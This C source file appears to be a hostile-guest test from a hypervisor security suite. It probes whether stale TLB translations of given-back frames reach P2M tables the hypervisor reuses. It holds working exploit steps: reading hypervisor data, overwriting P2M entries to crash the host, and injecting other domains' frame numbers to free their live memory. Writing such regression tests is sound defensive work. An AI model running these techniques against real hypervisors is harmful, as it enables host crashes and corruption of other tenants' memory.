/*
 * hostile_tlb_reuse: tries to keep reaching frames it gave back through
 * translations its TLB may still hold. It maps three frames of its own
 * writable, touches them (the TLB now holds the translations), removes the
 * mappings with update_va_mapping(..., UVMF_NONE) (no flush asked), gives
 * the frames back with XENMEM_decrease_reservation and populates a far pfn,
 * so that the hypervisor needs new P2M table frames; with a LIFO allocator
 * that never flushes those are the three frames just given back. Then it
 * goes through the stale addresses, each access under an exception-table
 * entry, so a #PF (the translation is gone) is the contained outcome.
 *
 * mode=read   reads the stale pages: anything but what it wrote there, or
 *             zeros of a frame given back to itself, is hypervisor data
 *             (FAIL stale_unreachable).
 * mode=crash  writes a bogus table frame number over every entry of a stale
 *             page that holds a P2M table, then populates a pfn below it: an
 *             unfixed hypervisor takes a #PF on its own P2M walk and stops.
 * mode=xfree  writes other domains' frame numbers (the bystander's image
 *             frames, found through the read-only M2P) into a stale P2M
 *             table as if they were leaf tables, then populates pfns under
 *             them (an unfixed hypervisor writes into such a frame wherever
 *             its word reads as an empty entry); its own teardown then
 *             frees the bystander's live frames, and the bystander's ends
 *             in a BUG.
 * Each try uses three fresh frames and a fresh top-level P2M slot; a try
 * whose stale accesses all fault (a context switch in between also
 * flushes) is followed by the next one, up to tries= (default 4).
 *
 * Keys: name, mode (read), tries (4). Moat only: it depends on Moat's
 * allocator order only to make an unfixed hypervisor fail visibly.
 */
#include "hostile.h"

const char guest_image[] = "hostile_tlb_reuse";

#define NR_STALE   3
#define P2M_ROOT_SHIFT 18		/* pfn bits below a top-level P2M slot */
#define P2M_MID_SHIFT  9
#define BOGUS_MFN  0x7ffffff0ULL	/* far beyond RAM: not in the direct map */
#define XFREE_MAX  32			/* bystander frames targeted */
#define XFREE_WORD 7			/* the word written in each */

enum mode { MODE_READ, MODE_CRASH, MODE_XFREE };

static enum mode mode;
static uint64_t stale_mfn[NR_STALE];
static uint64_t pages_given_back;
static unsigned int breaches;	/* stale accesses that reached foreign data */

static uint64_t pattern(unsigned int page, unsigned int word)
{
	return 0x5354414c45000000ULL ^ ((uint64_t)page << 16) ^ word;	/* "STALE" */
}

/* One load through va under the exception table; false when it faulted. */
static bool try_read(uint64_t va, uint64_t *out)
{
	unsigned int before = rt_last_trap.count;
	uint64_t v = 0;

	__asm__ volatile(RT_TRY("movq (%1), %0") : "+r"(v) : "r"(va) : "memory");
	*out = v;
	return rt_last_trap.count == before;
}

static bool try_write(uint64_t va, uint64_t val)
{
	unsigned int before = rt_last_trap.count;

	__asm__ volatile(RT_TRY("movq %0, (%1)") : : "r"(val), "r"(va) : "memory");
	return rt_last_trap.count == before;
}

static long reservation(unsigned int cmd, uint64_t *extents, unsigned int n)
{
	struct xen_memory_reservation r = {
		.extent_start = (uint64_t)(uintptr_t)extents, .nr_extents = n,
		.extent_order = 0, .domid = DOMID_SELF,
	};

	return hyp_memory_op(cmd, &r);
}

/* Give back `count` more frames past the region: room to populate later. */
static void give_back_spare(unsigned int count)
{
	for (unsigned int i = 0; i < count; i++) {
		uint64_t pfn = rt_frame_alloc();
		uint64_t m;

		if (pfn == 0) {
			return;
		}
		m = rt_p2m[pfn];
		if (reservation(XENMEM_decrease_reservation, &m, 1) == 1) {
			((uint64_t *)rt_p2m)[pfn] = ~0ULL;
			pages_given_back++;
		}
	}
}

/* A page that reads like a P2M table: almost every entry empty (~0). */
static bool looks_like_p2m(const uint64_t *words)
{
	unsigned int empty = 0;

	for (unsigned int i = 0; i < 512; i++) {
		empty += words[i] == ~0ULL;
	}
	return empty >= 500;
}

static uint64_t snapshot[NR_STALE][512];

/* Read every stale page; true if at least one was reachable. */
static bool read_stale(uint64_t base_va, bool reachable[NR_STALE])
{
	bool any = false;

	for (unsigned int p = 0; p < NR_STALE; p++) {
		uint64_t va = base_va + (uint64_t)p * RT_PAGE_SIZE;

		reachable[p] = true;
		for (unsigned int w = 0; w < 512; w++) {
			if (!try_read(va + w * 8ULL, &snapshot[p][w])) {
				reachable[p] = false;
				break;
			}
		}
		any |= reachable[p];
	}
	return any;
}

/* What a stale page may legitimately show: our own pattern (the frame is
 * still free) or zeros (it came back to us from populate_physmap). */
static bool page_is_ours(unsigned int p)
{
	bool mine = true, zero = true;

	for (unsigned int w = 0; w < 512; w++) {
		mine &= snapshot[p][w] == pattern(p, w);
		zero &= snapshot[p][w] == 0;
	}
	return mine || zero;
}

static void report_read(const bool reachable[NR_STALE])
{
	for (unsigned int p = 0; p < NR_STALE; p++) {
		unsigned int other = 0;

		if (!reachable[p] || page_is_ours(p)) {
			continue;
		}
		for (unsigned int w = 0; w < 512; w++) {
			other += snapshot[p][w] != pattern(p, w);
		}
		breaches++;
		test_fail("stale_unreachable",
			  "read through a stale translation of given-back mfn 0x%lx: %u words not "
			  "ours, first 0x%lx 0x%lx 0x%lx%s", (unsigned long)stale_mfn[p], other,
			  (unsigned long)snapshot[p][0], (unsigned long)snapshot[p][1],
			  (unsigned long)snapshot[p][2],
			  looks_like_p2m(snapshot[p]) ? " (a P2M table)" : "");
	}
}

static bool mfn_is_ours(uint64_t m)
{
	uint64_t pfn = rt_mfn_to_pfn(m);

	return pfn < rt_start_info->nr_pages && rt_p2m[pfn] == m;
}

/* Frames of other domains holding their image (pfn 16..127: on a spinner,
 * mostly its checksummed guard region), below our own lowest frame. */
static unsigned int find_foreign(uint64_t *out, unsigned int max)
{
	uint64_t lo, hi;
	unsigned int n = 0;

	own_mfn_range(&lo, &hi);
	for (uint64_t m = 0x100; m < lo && n < max; m++) {
		uint64_t pfn = rt_mfn_to_pfn(m);

		if (pfn >= 16 && pfn < 128 && !mfn_is_ours(m)) {
			out[n++] = m;
		}
	}
	return n;
}

/* Write through the stale page p (a P2M table); false when it faulted. */
static bool write_stale(uint64_t va, unsigned int first, unsigned int count, const uint64_t *vals)
{
	for (unsigned int i = 0; i < count; i++) {
		if (!try_write(va + (first + i) * 8ULL, vals ? vals[i] : BOGUS_MFN)) {
			return false;
		}
	}
	return true;
}

/* The attack proper once a stale page holding a P2M table is reachable. */
static void exploit(uint64_t va, uint64_t root_pfn)
{
	static uint64_t foreign[XFREE_MAX];
	uint64_t ext;
	long rc;

	if (mode == MODE_CRASH) {
		if (!write_stale(va, 0, 512, NULL)) {
			breaches++;
			test_fail("stale_unreachable", "a stale P2M page was readable, not writable");
			return;
		}
		breaches++;
		test_fail("stale_unreachable", "wrote bogus frame numbers over a P2M table");
		fatal_step("populating a pfn under the bogus P2M entries");
		ext = root_pfn | (1ULL << P2M_MID_SHIFT);
		rc = reservation(XENMEM_populate_physmap, &ext, 1);
		rt_printf("%s: populate under the bogus entries: rc %ld\n", rt_guest_name, rc);
		return;
	}
	unsigned int n = find_foreign(foreign, XFREE_MAX);

	if (n == 0 || !write_stale(va, 1, n, foreign)) {
		breaches++;
		test_fail("stale_unreachable", "a stale P2M page was readable (%u foreign frames)", n);
		return;
	}
	breaches++;
	test_fail("stale_unreachable", "wrote %u foreign frame numbers (first 0x%lx) into a P2M "
		  "table", n, (unsigned long)foreign[0]);
	for (unsigned int j = 1; j <= n; j++) {
		ext = root_pfn | ((uint64_t)j << P2M_MID_SHIFT) | XFREE_WORD;
		rc = reservation(XENMEM_populate_physmap, &ext, 1);
		if (rc != 1) {
			rt_printf("%s: populate %u: rc %ld\n", rt_guest_name, j, rc);
			break;
		}
	}
}

/* The stale page holding the new middle P2M table: its first entry (the
 * far pfn's) names another stale page that holds a P2M table (the leaf,
 * whose first entry names the frame populate gave us). -1 when none. */
static int find_mid(const bool reachable[NR_STALE])
{
	for (unsigned int p = 0; p < NR_STALE; p++) {
		if (!reachable[p] || !looks_like_p2m(snapshot[p])) {
			continue;
		}
		for (unsigned int q = 0; q < NR_STALE; q++) {
			if (q != p && reachable[q] && snapshot[p][0] == stale_mfn[q] &&
			    looks_like_p2m(snapshot[q])) {
				return (int)p;
			}
		}
	}
	return -1;
}

/* One try; true when the stale translations were reachable (attack ran). */
static bool attempt(unsigned int t)
{
	uint64_t base_va = rt_window(RT_WIN_TEST + NR_STALE - 1);
	uint64_t root_pfn = (uint64_t)(511 - t) << P2M_ROOT_SHIFT;
	uint64_t pfns[NR_STALE], ext[NR_STALE], far = root_pfn;
	bool reachable[NR_STALE];
	long rc;

	for (unsigned int p = 0; p < NR_STALE; p++) {
		uint64_t va = base_va + (uint64_t)p * RT_PAGE_SIZE;
		volatile uint64_t *w = (volatile uint64_t *)va;

		pfns[p] = rt_frame_alloc();
		if (pfns[p] == 0) {
			test_fail("setup", "no frame left past the region");
			return true;
		}
		stale_mfn[p] = ext[p] = rt_p2m[pfns[p]];
		rc = rt_map(va, stale_mfn[p], PTE_DATA);
		if (rc != 0) {
			test_fail("setup", "mapping mfn 0x%lx: rc %ld", (unsigned long)stale_mfn[p], rc);
			return true;
		}
		for (unsigned int i = 0; i < 512; i++) {
			w[i] = pattern(p, i);
		}
	}
	/* Touch all three again, unmap without a flush, give them back, then
	 * make the hypervisor allocate: nothing in between may reload CR3. */
	for (unsigned int p = 0; p < NR_STALE; p++) {
		(void)*(volatile uint64_t *)(base_va + (uint64_t)p * RT_PAGE_SIZE);
	}
	for (unsigned int p = 0; p < NR_STALE; p++) {
		rc = hyp_update_va_mapping(base_va + (uint64_t)p * RT_PAGE_SIZE, 0, UVMF_NONE);
		if (rc != 0) {
			test_fail("setup", "unmapping: rc %ld", rc);
			return true;
		}
	}
	rc = reservation(XENMEM_decrease_reservation, ext, NR_STALE);
	if (rc != NR_STALE) {
		test_fail("setup", "decrease_reservation: %ld of %d", rc, NR_STALE);
		return true;
	}
	rc = reservation(XENMEM_populate_physmap, &far, 1);
	if (!read_stale(base_va, reachable)) {
		rt_printf("%s: try %u: populate rc %ld (mfn 0x%lx), every stale page faults\n",
			  rt_guest_name, t, rc, (unsigned long)far);
		for (unsigned int p = 0; p < NR_STALE; p++) {
			((uint64_t *)rt_p2m)[pfns[p]] = ~0ULL;
		}
		return false;
	}
	rt_printf("%s: try %u: populate rc %ld (mfn 0x%lx), stale pages reachable: %d %d %d\n",
		  rt_guest_name, t, rc, (unsigned long)far, reachable[0], reachable[1], reachable[2]);
	report_read(reachable);
	if (mode != MODE_READ) {
		int mid = find_mid(reachable);

		if (mid >= 0) {
			exploit(base_va + (uint64_t)mid * RT_PAGE_SIZE, root_pfn);
		}
	}
	return true;
}

void guest_main(void)
{
	char m[16] = "read";
	unsigned int tries = (unsigned int)cmdline_get_u64("tries", 4);
	bool ran = false;

	(void)cmdline_get("mode", m, sizeof(m));
	mode = m[0] == 'c' ? MODE_CRASH : m[0] == 'x' ? MODE_XFREE : MODE_READ;
	rt_traps_init();
	rt_mm_init();
	/* Room for the frames the attack populates. */
	give_back_spare(XFREE_MAX + 4);
	rt_printf("%s: mode %s, %lu spare frames given back\n", rt_guest_name,
		  mode == MODE_READ ? "read" : mode == MODE_CRASH ? "crash" : "xfree",
		  (unsigned long)pages_given_back);
	for (unsigned int t = 0; t < tries && !ran; t++) {
		ran = attempt(t);
	}
	if (!ran) {
		test_pass("stale_unreachable", "%u tries: every translation of a given-back frame "
			  "faulted after the frame was reused", tries);
	} else if (breaches == 0) {
		test_pass("stale_unreachable", "the stale pages reachable held only our own data");
	}
}
